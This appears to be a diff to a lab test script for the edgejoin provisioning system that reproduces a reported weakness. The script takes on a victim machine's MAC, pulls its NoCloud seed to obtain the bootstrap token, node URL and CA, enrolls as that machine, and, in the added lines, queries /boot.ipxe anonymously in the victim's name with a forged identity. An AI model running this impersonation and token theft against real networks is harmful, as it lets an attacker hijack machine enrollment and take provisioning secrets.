@@ -2,8 +2,9 @@
 # The neighbour of issue 9: another machine on the site LAN (the lab guest image, its own DHCP
 # address) that waits for the lab's signal, fetches a joined machine's NoCloud seed and enrolls
 # as that machine with whatever the seed gives it: the bootstrap token, the node URL, the CA. It
-# does what edgejoin's agent does (POSIX sh + curl), only with a MAC that is not its own, and
-# says what it got on the serial console, one "edgejoin-neighbour:" line per step.
+# does what edgejoin's agent does (POSIX sh + curl), only with a MAC that is not its own, after
+# an anonymous /boot.ipxe sighting in that machine's name with another identity, and says what
+# it got on the serial console, one "edgejoin-neighbour:" line per step.
 #   neighbour.sh VICTIM_MAC BASE_URL
 set -u
 VICTIM=$1
@@ -48,8 +49,19 @@ node=$(first node-url) || node=$(first server-url) || node=$BASE
 node=${node%/}
 say "stolen: token $([ -n "$token" ] && echo yes || echo none), node URL $node, CA $([ -s "$OUT/ca.pem" ] && echo yes || echo none)"
 
+# An anonymous sighting in the victim's name with another identity (SMBIOS UUID, serial, arch):
+# what would the victim's next PXE boot run?
+q="mac=$VICTIM&uuid=6e0a51b0-0000-4000-8000-00000000ab99&serial=NEIGHBOUR&arch=arm64&platform=efi&manufacturer=lab&product=neighbour"
+script=$(curl -sS -m 20 "$BASE/boot.ipxe?$q" | sed -n 's/^echo edgejoin: //p' | head -n 1)
+case $script in
+*"is installed - booting from its local disk"*) boot=local-disk ;;
+installing*) boot=installer ;;
+*) boot=other ;;
+esac
+say "boot script for $VICTIM: $script"
+
 printf '{"token":"%s","mac":"%s","hostname":"neighbour","ip":"%s","facts":{"agent":"edgejoin-neighbour"}}' "$token" "$VICTIM" "$ip" >"$OUT/enroll.json"
 set -- -sS -m 30 -o "$OUT/enroll.out" -w '%{http_code}' -H 'Content-Type: application/json' --data-binary "@$OUT/enroll.json"
 [ -s "$OUT/ca.pem" ] && set -- "$@" --cacert "$OUT/ca.pem"
 code=$(curl "$@" "$node/api/v1/enroll" 2>"$OUT/curl.err") || code=000
-say "RESULT status=$code token=$([ -n "$token" ] && echo yes || echo none) ip=$ip body=$(head -c 600 "$OUT/enroll.out" 2>/dev/null | tr -d '\r\n') curl=$(head -c 200 "$OUT/curl.err" | tr -d '\r\n')"
+say "RESULT status=$code token=$([ -n "$token" ] && echo yes || echo none) ip=$ip boot=$boot body=$(head -c 600 "$OUT/enroll.out" 2>/dev/null | tr -d '\r\n') curl=$(head -c 200 "$OUT/curl.err" | tr -d '\r\n')"
